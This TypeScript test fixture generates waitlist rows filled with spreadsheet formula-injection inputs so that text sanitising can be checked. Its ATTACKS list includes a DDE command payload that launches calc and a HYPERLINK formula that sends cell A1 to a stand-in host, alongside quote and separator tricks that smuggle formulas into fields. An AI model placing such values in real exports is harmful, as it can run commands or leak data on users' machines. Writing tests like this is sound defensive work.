import * as fc from 'fast-check';
import { toVisibleLine } from '#shared/contract/text.ts';
import type { WaitlistRow } from '../../lambdas/store/row.ts';
import { personRow } from '../infra/operator/people-rows.ts';

/** Inputs with which an attacker makes a spreadsheet run a formula. */
const ATTACKS = [
  '=1+1',
  '=HYPERLINK("https://x.example/?"&A1;"Zürich")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '＝1+1',
  'x";=1+1;"',
  'x",=1+1,"',
  'x;=1+1',
  'x,=1+1',
  'x;"=1+1"',
  ';;=1+1',
  '";=1+1',
  '";"=1+1',
  `';=1+1`,
  'Müller & Söhne; Genève, Zürich',
];

const SIGNS = ['=', '+', '-', '@', '"', "'", ',', ';', ' ', '1', 'ü'];
const RANDOM = 400;

/** People whose texts are attacks, and others of random characters, the same in every run. */
export function hostilePeople(): readonly WaitlistRow[] {
  const random = fc.sample(
    fc.string({ unit: fc.constantFrom(...SIGNS), minLength: 1, maxLength: 12 }),
    { seed: 1, numRuns: RANDOM },
  );
  return [...ATTACKS, ...random].map((text, number) => {
    const value = toVisibleLine(text) || '-';
    return personRow(number, { company: value, location: `Genève ${value}`, source: value });
  });
}
